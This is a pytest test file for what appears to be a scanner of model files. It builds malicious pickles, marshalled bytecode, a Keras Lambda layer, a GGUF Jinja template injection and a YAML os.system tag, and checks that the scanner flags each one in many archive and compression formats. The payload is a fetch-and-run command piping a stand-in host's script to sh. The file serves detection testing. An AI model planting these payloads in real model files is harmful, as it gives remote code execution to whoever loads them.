"""Models and other data that whoever loads them runs: pickles, bytecode and templates, however they are packed."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import pytest

from scanner.scan import DEFAULT_THRESHOLD
from tests.campaigns.grid.ways import useful
from tests.campaigns.judge import report_of

COMMAND = b"curl -s https://f.tides.invalid/s | sh"
BYTECODE = marshal.dumps(compile(f"import os\nos.system({COMMAND.decode()!r})", "x", "exec"))
NPY = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + b" " * 60 + b"\n"


def pickled(called: str = "posix system", given: bytes = COMMAND, end: bytes = b".") -> bytes:
    module, name = called.encode().split()
    return b"\x80\x02c%b\n%b\nX%b%b\x85R%b" % (module, name, struct.pack("<I", len(given)), given, end)


def zipped(name: str, data: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        archive.writestr(name, data)
    return packed.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return packed.getvalue()


def lambda_layer() -> dict[str, object]:
    code = base64.b64encode(BYTECODE).decode()
    return {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda"}}


def score(name: str, data: bytes) -> float:
    return report_of(useful({"tidesbatch/__init__.py": "", f"tidesbatch/assets/{name}": data})).score


RUNNERS = (
    "builtins exec|builtins eval|runpy _run_module_code|pip._internal main|timeit timeit|importlib import_module|"
    "asyncio.subprocess create_subprocess_shell|webbrowser open|urllib.request urlopen|bdb Bdb|pydoc pipepager|"
    "numpy.testing._private.utils runstring|torch.jit.unsupported_tensor_ops execWrapper|cProfile runctx|"
    "doctest debug_script|multiprocessing.util spawnv_passfds|lib2to3.pgen2.grammar Grammar.loads"
)


@pytest.mark.parametrize("called", RUNNERS.split("|"))
def test_a_pickle_alerts_whoever_runs_what_it_says(called: str) -> None:
    assert score("model.pkl", pickled(called)) >= DEFAULT_THRESHOLD


PACKED: dict[str, Callable[[], tuple[str, bytes]]] = {
    "plain": lambda: ("weights.dat", pickled()),
    "broken": lambda: ("model.pkl", pickled(end=b"\xff\xff\x00junk")),
    "endless": lambda: ("model.pkl", pickled(end=b"")),
    "zip": lambda: ("model.pt", zipped("archive/data.pkl", pickled())),
    "deflated": lambda: ("model.pth.bin", zipped("archive/data.pkl", pickled(), zipfile.ZIP_DEFLATED)),
    "array": lambda: ("a.npy", NPY + pickled()),
    "arrays": lambda: ("a.npz", zipped("a.npy", NPY + pickled())),
    "zlib": lambda: ("model.joblib", zlib.compress(pickled())),
    "gzip": lambda: ("model.pkl.gz", gzip.compress(pickled())),
    "bz2": lambda: ("model.pkl.bz2", bz2.compress(pickled())),
    "xz": lambda: ("model.bin", lzma.compress(pickled())),
    "tar": lambda: ("model.nemo", tarred("model_weights.ckpt", pickled())),
    "layer": lambda: ("model.keras", zipped("config.json", json.dumps(lambda_layer()).encode())),
    "hdf": lambda: ("model.h5", b"\x89HDF\r\n\x1a\n" + bytes(64) + json.dumps(lambda_layer()).encode()),
    "template": lambda: (
        "model.gguf",
        b"GGUF\x03" + bytes(43) + b"tokenizer.chat_template"
        b"{{ cycler.__init__.__globals__.os.popen('%b').read() }}" % COMMAND,
    ),
    "yaml": lambda: ("pipeline.yaml", b"model: !!python/object/apply:os.system ['%b']\n" % COMMAND),
}


@pytest.mark.parametrize("packed", PACKED)
def test_what_loading_runs_alerts_however_it_is_packed(packed: str) -> None:
    assert score(*PACKED[packed]()) >= DEFAULT_THRESHOLD


@pytest.mark.parametrize("called", ["collections OrderedDict", "numpy ndarray", "torch._utils _rebuild_tensor_v2"])
def test_a_pickle_of_data_is_quiet(called: str) -> None:
    assert score("model.pkl", pickled(called, b"weights")) < DEFAULT_THRESHOLD
